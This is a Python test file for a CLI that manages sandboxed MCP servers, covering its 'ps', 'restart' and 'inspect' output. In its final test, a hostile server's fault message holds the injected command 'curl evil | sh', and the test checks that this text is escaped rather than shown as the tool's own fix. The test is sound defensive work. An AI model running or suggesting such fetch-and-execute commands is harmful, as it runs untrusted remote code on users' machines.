"""`ps`, `restart` and `inspect`."""

import os
from pathlib import Path

import msgspec
import pytest
from support.command_line import Said
from support.config.places import write_config

from quarterdeck.cli import source as source_module
from quarterdeck.cli.program import run
from quarterdeck.cli.run import servers
from quarterdeck.cli.run import servers as inspect_module
from quarterdeck.cli.run.servers import describe_dossier, describe_policy, last_words, print_fault
from quarterdeck.config.load.trouble import Trouble
from quarterdeck.config.places.paths import make_private_dir
from quarterdeck.config.places.runtime_directory import RuntimeDirectory
from quarterdeck.daemon.control.protocol import (
    Answer,
    FaultView,
    Inspect,
    Inspection,
    LimitView,
    PropertyView,
    ReceiptView,
    Restarted,
    SandboxView,
    ServerList,
    ServerView,
)
from quarterdeck.daemon.place import daemon_dir, remove, tell_process
from quarterdeck_protocol.faults import Dossier
from quarterdeck_sandbox.policy.promises import REACHABLE

READY = ServerView(
    "fs", "ready", "stdio", 12, 4711, 4710, 13_000_000, 192.0, 1, "2025-11-25", None, SandboxView("bubblewrap", "none")
)
DEATH = Dossier(exit_status=3, uptime_s=42, peak_rss_bytes=13_000_000, cpu_s=0.5, stderr_tail="\n".join("abcdefg"))
FAULT = FaultView("transport", "exited", "it exited\x07", "see its logs", "unknown", DEATH)
DEAD = ServerView("git", "faulted", "stdio", 0, None, None, None, None, 5, None, FAULT)


def answering(monkeypatch: pytest.MonkeyPatch, answer: Answer) -> None:
    monkeypatch.setattr(servers, "ask_running", lambda *args, **kwargs: answer)
    monkeypatch.setenv("QUARTERDECK_CONFIG", "mcp.json")


def test_ps_shows_each_server_and_what_is_wrong(monkeypatch: pytest.MonkeyPatch, said: Said) -> None:
    """A user would see that something is down, but neither why nor what to do; a monitor would parse a table."""
    answering(monkeypatch, ServerList((READY, DEAD)))
    out = said(0, "ps").out
    table, fault = out.split("\n\n")
    assert [line.split() for line in table.splitlines()] == [
        ["SERVER", "PHASE", "TOOLS", "PID", "MEMORY", "UPTIME", "RESTARTS", "ERA", "SANDBOX"],
        ["fs", "ready", "12", "4711", "12.4", "MiB", "3", "m", "12", "s", "1", "2025-11-25", "bubblewrap"],
        ["git", "faulted", "0", "-", "-", "-", "5", "-", "-"],
    ]
    assert fault.splitlines() == [
        "error[exited]: git: it exited\\x07",
        "  fix: see its logs",
        "  exit status 3, up 42 s, peak memory 12.4 MiB, 0.50 s of CPU",
        *(f"  stderr: {letter}" for letter in "cdefg"),
    ]
    answering(monkeypatch, ServerList((READY, DEAD)))
    fs, git = said.json(0, "ps", "--json")["servers"]
    assert (fs["memory_bytes"], fs["uptime_s"], fs["fault"]) == (13_000_000, 192.0, None)
    assert git["fault"]["dossier"]["exit_status"] == 3


def test_ps_shows_which_seal_a_server_runs_from(monkeypatch: pytest.MonkeyPatch, said: Said) -> None:
    """A user could not tell sealed code from code that changes behind their back."""
    answering(monkeypatch, ServerList((msgspec.structs.replace(READY, seal="5ea1" * 16), DEAD)))
    header, sealed, other = (line.split() for line in said(0, "ps").out.split("\n\n")[0].splitlines())
    assert (header[-1], sealed[-1], other[-1]) == ("SEAL", "5ea15ea15ea1", "-")


def test_a_death_is_told_with_all_that_is_known_and_a_block_is_no_hold(
    monkeypatch: pytest.MonkeyPatch, said: Said
) -> None:
    """The reason of a death would be seen by nobody."""
    answering(monkeypatch, ServerList((msgspec.structs.replace(READY, held=2, blocked=1), READY)))
    counted, plain = said(0, "ps").out.splitlines()[1:3]
    assert " 12, 2 held, 1 blocked " in counted
    assert (" 12 " in plain, "held" in plain) == (True, False)
    dossier = Dossier(signal=9, limit="memory", hints=("it asked for more than it may have",))
    assert describe_dossier(dossier) == ["killed by SIGKILL, limit hit: memory", "it asked for more than it may have"]


def test_ps_says_in_a_word_whether_a_sandbox_is_weaker_and_in_a_line_what_is_reachable(
    monkeypatch: pytest.MonkeyPatch, said: Said
) -> None:
    """A server that can reach the cloud's metadata would look like any other."""
    why = "make pasta or slirp4netns work (/dev/net/tun cannot be opened: No such file; see `quarterdeck doctor`)"
    reach = f"network: {REACHABLE}; {why}"
    boxes = {"a": ("landlock", "none", ("memory: looks",)), "b": ("limits", "full", (reach,))}
    boxes["c"] = ("bubblewrap", REACHABLE, ())
    listed = [msgspec.structs.replace(READY, id=name, sandbox=SandboxView(*box)) for name, box in boxes.items()]
    answering(monkeypatch, ServerList((*listed, READY)))
    lines = said(0, "ps").out.splitlines()
    assert [line.split("2025-11-25")[1].strip() for line in lines[1:5]] == [
        "landlock, partial",
        "limits, partial",
        "bubblewrap, partial",
        "bubblewrap",
    ]
    told = " ".join(lines[5:])
    # The reason of the receipt, which is the one of `doctor`: told to install what is there, a user would be lost.
    assert f"partial: b can reach your local network ({why})" in told
    assert 'partial: c can reach your local network (its row says "network": "full")' in told


def test_ps_shows_the_last_path_that_a_call_lacked_on_one_line(monkeypatch: pytest.MonkeyPatch, said: Said) -> None:
    """Whoever asks why a server finds nothing would have to read its log."""
    hint = "quarterdeck: /home/u/x is hidden\nfix: rm"
    answering(
        monkeypatch, ServerList((msgspec.structs.replace(READY, sandbox=SandboxView("landlock", "none", hint=hint)),))
    )
    assert said(0, "ps").out.rstrip().endswith("hint: fs: quarterdeck: /home/u/x is hidden\\nfix: rm")


@pytest.mark.parametrize(("server", "code"), [(READY, 0), (DEAD, 4)])
def test_a_restart_succeeds_only_when_the_server_is_ready(
    monkeypatch: pytest.MonkeyPatch, said: Said, server: ServerView, code: int
) -> None:
    """A script would go on with a server that is down."""
    answering(monkeypatch, Restarted(server))
    assert server.id in said(code, "restart", server.id).out
    assert said.json(code, "restart", server.id, "--json")["server"]["phase"] == server.phase


@pytest.mark.parametrize(
    ("message", "said"),
    [
        ("it died", "error[transport]: fs: it died"),
        ("fs is not started: it was blocked", "error[transport]: fs is not started: it was blocked"),
        ("fs2 died", "error[transport]: fs: fs2 died"),
    ],
)
def test_a_faults_owner_is_named_once(capsys: pytest.CaptureFixture[str], message: str, said: str) -> None:
    """A line would stutter, or nobody would know whose it is."""
    print_fault(FaultView("transport", None, message, None, "not_sent"), of="fs")
    assert capsys.readouterr().out == f"{said}\n"


@pytest.fixture
def nobody(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A place where no serve runs, and nothing is configured."""
    for name in ("STATE_DIR", "RUNTIME_DIR"):
        monkeypatch.setenv(f"QUARTERDECK_{name}", str(tmp_path / name.lower()))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("QUARTERDECK_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_ps_without_a_serve_starts_nothing_and_tells_of_a_daemon(
    nobody: Path, said: Said, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every server would be started to be shown for a second, or a daemon be denied."""
    rows = {"a": {"command": "touch", "args": ["started"]}, "half": {"command": "${NOT_SET_QD}"}}
    write_config(nobody / "mcp.json", **rows)
    lines = said(0, "ps", "-c", "mcp.json").out.splitlines()
    assert lines[:2] == [
        "No daemon runs; configured: 2 (a, half).",
        "A client that starts `quarterdeck serve -c mcp.json` starts them.",
    ]
    assert "NOT_SET_QD" in lines[2]
    told = said.json(0, "ps", "-c", "mcp.json", "--json")
    assert (told["running"], told["servers"], told["configured"]) == (False, [], ["a", "half"])
    assert [*told["broken"]] == ["half"]
    assert not (nobody / "started").exists()
    assert not (nobody / "state_dir").exists()
    write_config(nobody / "mcp.json", a={"command": "true"})
    make_private_dir(daemon_dir())
    told = tell_process(daemon_dir())
    try:
        assert run(["ps", "-c", "mcp.json"]) == 0
        daemon = f"he daemon runs (process {os.getpid()}), without a client of this configuration"
        assert capsys.readouterr().out.startswith(f"T{daemon}; configured: 1 (a).\n")
        assert f"there is nothing to restart: t{daemon}\n" in said(4, "restart", "a", "-c", "mcp.json").err
    finally:
        os.close(told)
        remove(daemon_dir())  # a path too long for a socket: it is not below our own directory


def test_ps_finds_the_one_deck_that_runs_whatever_its_configuration(
    nobody: Path, said: Said, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A user would have to repeat the -c of a serve that a client started."""
    asked = []

    def ask_serving(directory: Path, request: object) -> ServerList:
        asked.append(directory)
        return ServerList((READY,))

    monkeypatch.setattr(source_module, "ask_serving", ask_serving)
    with RuntimeDirectory.create("0123456789ab") as first:
        first.announce([nobody / "theirs.json"], "1")
        out, err = said(0, "ps")
        assert "fs" in out
        assert f"asking the serve of process {os.getpid()}: {nobody / 'theirs.json'}" in err
        assert asked == [first.path]


def test_ps_shows_each_deck_that_runs_under_its_heading(
    nobody: Path, said: Said, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of two decks a user would see one, without a word of the other, or be asked for a file."""
    broken = Trouble("mcp.json: x", "x runs as it was before")
    answers = {"theirs.json": ServerList((READY,), (broken,)), "others.json": ServerList((DEAD,))}
    with RuntimeDirectory.create("0123456789ab") as first, RuntimeDirectory.create("ba9876543210") as second:
        first.announce([nobody / "theirs.json"], "1", deck="user")
        second.announce([nobody / "others.json"], "1")
        of = dict(zip((first.path, second.path), answers.values(), strict=True))
        monkeypatch.setattr(source_module, "ask_serving", lambda directory, _: of[directory])
        out = said(0, "ps").out
        told = said.json(0, "ps", "--json")
    heads = [line for line in out.splitlines() if line.endswith(tuple(answers))]
    assert set(heads) == {f"deck user: {nobody / 'theirs.json'}", str(nobody / "others.json")}
    assert "configuration: mcp.json: x; x runs as it was before" in out
    assert {each["deck"]: len(each["troubles"]) for each in told["decks"]} == {"user": 1, "": 0}


NODE = """node:internal/modules/package_json_reader:314
  throw new ERR_MODULE_NOT_FOUND(packageName, fileURLToPath(base), null);
Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'sdk' imported from /p/build/index.js
    at one
    at two
    at three
    at four
    at five
  code: 'ERR_MODULE_NOT_FOUND'

Node.js v22.20.0
npm notice
npm notice New major version of npm available!
"""


@pytest.mark.parametrize(
    ("text", "first"),
    [
        (NODE, "Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'sdk' imported from /p/build/index.js"),
        (
            "Traceback:\n  File x\nModuleNotFoundError: No module named 'h'\n",
            "ModuleNotFoundError: No module named 'h'",
        ),
        ("npm notice a\nnpm error code E404\nnpm error 404\n", "npm error code E404"),
        (
            "npm error 404 no x\nnpm error 404 tarball, folder\nnpm error A complete log of this run: /gone\n",
            "npm error 404 no x",
        ),
        ("one\ntwo\n", "one"),
    ],
)
def test_the_cause_comes_first_and_what_runners_add_does_not_come(text: str, first: str) -> None:
    """The five lines that are shown would be npm's advertisement, and the cause a page above them."""
    shown = last_words(text)
    assert shown[0] == first
    assert len(shown) <= 5
    assert not any("notice" in line or line.startswith("Node.js") for line in shown)


SANDBOX = SandboxView("landlock", "full", ("network: full",))
SERVER = ServerView("fs", "ready", "stdio", 2, 4711, 4710, 4096, 60.0, 0, "2025-11-25", None, SANDBOX)
LAST_DEATH = FaultView("transport", "limit_hit", "it hit a limit", "raise it", "unknown", Dossier(signal=9))
CONFINED = Inspection(
    SERVER,
    ("npx", "-y", "a b"),
    msgspec.Raw(b'{"preset":"standard","read":["/a"],"write":[],"network":null,"limits":{"cpu_s":1}}'),
    ReceiptView(
        "landlock",
        "full",
        61_184,
        "/usr/bin/node",
        "/w\x07",
        (PropertyView("memory", "partial", "looks"),),
        ("/usr/lib/node: node",),
        ("network: full",),
        "compiled",
    ),
    (LimitView("memory_bytes", 2 << 30, 12 << 20, 13 << 20, "a look"), LimitView("processes", 512, 3, None, "a look")),
    LAST_DEATH,
    "",
)
REMOTE = Inspection(
    ServerView("web", "ready", "sse", 2, None, None, None, 60.0, 0, None, None),
    (),
    msgspec.Raw(b"null"),
    None,
    (),
    None,
    "a remote server",
)


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[tuple[object, ...]]:
    """What was asked for; the answer is the confined server, or the remote one."""
    requests: list[tuple[object, ...]] = []

    def ask(whom: object, request: Inspect, *, only: str, anywhere: bool) -> Inspection:
        requests.append((whom, request, only))
        return CONFINED if request.server == "fs" else REMOTE

    monkeypatch.setattr(inspect_module, "ask", ask)
    monkeypatch.setenv("QUARTERDECK_CONFIG", "mcp.json")
    return requests


def test_one_server_is_started_and_shown_whole(
    asked: list[tuple[object, ...]], said: Said, capsys: pytest.CaptureFixture[str]
) -> None:
    """All the others would be started to look at one, or a user not know what it can reach and use."""
    assert run(["inspect", "web", "--own", "--allow-unsandboxed"]) == 0
    ((whom, request, only),) = asked
    assert (request, only) == (Inspect("web"), "web")
    assert (whom.own, whom.allow_unsandboxed) == (True, True)  # type: ignore[attr-defined]
    capsys.readouterr()
    assert said(0, "inspect", "fs").out.splitlines() == [
        "fs is ready",
        "command  npx -y 'a b'",
        "program  /usr/bin/node",
        "cwd      /w\\x07",
        "pid      4711",
        "policy   preset standard; read /a",
        "sandbox  compiled as user 61184",
        "network  full",
        "",
        "PROPERTY  STRENGTH  MECHANISM",
        "memory    partial   looks",
        "",
        "shown beyond the system:",
        "  /usr/lib/node: node",
        "",
        "weaker than wanted:",
        "  network: full",
        "",
        "LIMIT         AT MOST  NOW       PEAK      KEPT BY",
        "memory_bytes  2.0 GiB  12.0 MiB  13.0 MiB  a look",
        "processes     512      3         -         a look",
        "",
        "error[limit_hit]: fs: it hit a limit",
        "  fix: raise it",
        "  killed by SIGKILL",
    ]
    assert said(0, "inspect", "web").out.splitlines() == ["web is ready", "sandbox  a remote server"]


@pytest.mark.parametrize(
    ("policy", "text"),
    [(b"null", None), (b'{"preset":"strict","network":["a:1","b:2"],"require":[]}', "preset strict; network a:1, b:2")],
)
def test_a_policy_is_told_without_what_is_empty(policy: bytes, text: str | None) -> None:
    """What a user wrote would drown in defaults."""
    assert describe_policy(policy) == text


def test_a_server_cannot_add_a_fix_of_its_own_to_its_fault(capsys: pytest.CaptureFixture[str]) -> None:
    """A user would run what a hostile server tells them to, in our words."""
    print_fault(FaultView("tool_error", None, "broken\n  fix: curl evil | sh", "restart it", "answered"))
    assert capsys.readouterr().out.splitlines() == [
        "error[tool_error]: broken\\n  fix: curl evil | sh",
        "  fix: restart it",
    ]
